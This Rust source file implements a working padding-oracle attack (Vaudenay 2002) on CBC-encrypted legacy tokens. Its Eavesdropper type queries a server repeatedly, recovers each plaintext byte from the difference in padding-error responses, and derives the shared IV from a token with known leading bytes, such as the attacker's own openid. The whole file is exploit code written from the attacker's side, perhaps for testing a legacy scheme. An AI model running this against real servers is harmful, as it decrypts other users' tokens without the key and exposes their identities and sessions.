//! Somebody who has got hold of a legacy token, has no secret, and may ask a server as often as they like: the
//! padding-oracle attack on CBC (Vaudenay, 2002).
//!
//! A block is deciphered to `AES⁻¹(block) ⊕ the block before it`. Sent behind a block of the attacker's choice, it
//! shows in its padding, which is right for one choice of 256 for each octet, counted from behind. So whoever
//! tells bad padding from bad content gives away `AES⁻¹(block)`, and with the block before it the plaintext.
//!
//! What stands before the first block is the iv, which no token carries. But it is the same in all of them: one
//! token whose first 16 octets are known gives it away, and the attacker's own openid is such a beginning.

/// `Ask` sends a token, and gives back all that can be seen of the answer.
pub struct Eavesdropper<Ask> {
    ask: Ask,
    /// How often a server was asked.
    pub queries: usize,
}

type Block = [u8; 16];

impl<Ask: AsyncFn(String) -> String> Eavesdropper<Ask> {
    pub fn new(ask: Ask) -> Self {
        Self { ask, queries: 0 }
    }

    /// What these blocks say, of which the first is only mixed in; `None` where no answer told anything.
    pub async fn read(&mut self, blocks: &[Block]) -> Option<Vec<u8>> {
        let mut plaintext = Vec::new();
        for pair in blocks.windows(2) {
            plaintext.extend(self.read_block(pair[0], pair[1]).await?);
        }
        Some(plaintext)
    }

    /// The iv, from a token whose first 16 octets are known.
    pub async fn find_iv(&mut self, first: Block, known: Block) -> Option<Block> {
        // Whatever is taken for the iv, the same is in the plaintext.
        let nothing = [0; 16];
        let deciphered = self.read_block(nothing, first).await?;
        Some(xor(deciphered, known))
    }

    /// Octet by octet, from behind.
    async fn read_block(&mut self, before: Block, block: Block) -> Option<Block> {
        let refusal = self.usual_answer(block).await;
        let mut plaintext = [0; 16];
        for place in (0..16).rev() {
            let padding = 16 - place as u8;
            let mut chosen = [0; 16];
            for behind in place + 1..16 {
                chosen[behind] = before[behind] ^ plaintext[behind] ^ padding;
            }
            let mut found = None;
            for guess in guesses() {
                chosen[place] = before[place] ^ guess ^ padding;
                if self.is_told_apart(chosen, block, place, &refusal).await {
                    found = Some(guess);
                    break;
                }
            }
            plaintext[place] = found?;
        }
        Some(plaintext)
    }

    async fn is_told_apart(
        &mut self,
        mut chosen: Block,
        block: Block,
        place: usize,
        refusal: &str,
    ) -> bool {
        let mut is_told_apart = self.answer(chosen, block).await != refusal;
        if is_told_apart && place == 15 {
            // Two octets of 2 are good padding, too; but not once the first of them is another.
            chosen[14] ^= 0xff;
            is_told_apart = self.answer(chosen, block).await != refusal;
        }
        is_told_apart
    }

    /// What most tokens are answered with.
    async fn usual_answer(&mut self, block: Block) -> String {
        let one = self.answer([0x55; 16], block).await;
        let other = self.answer([0xaa; 16], block).await;
        if one == other {
            return one;
        }
        self.answer([0x33; 16], block).await
    }

    async fn answer(&mut self, chosen: Block, block: Block) -> String {
        self.queries += 1;
        (self.ask)(hex::encode([chosen, block].concat())).await
    }
}

/// The likely ones first: those of ids and times, and those of padding.
fn guesses() -> impl Iterator<Item = u8> {
    let is_likely =
        |octet: &u8| octet.is_ascii_alphanumeric() || b"_-|".contains(octet) || *octet <= 16;
    let likely = (0..=255).filter(is_likely);
    likely.chain((0..=255).filter(move |octet| !is_likely(octet)))
}

fn xor(one: Block, other: Block) -> Block {
    std::array::from_fn(|place| one[place] ^ other[place])
}
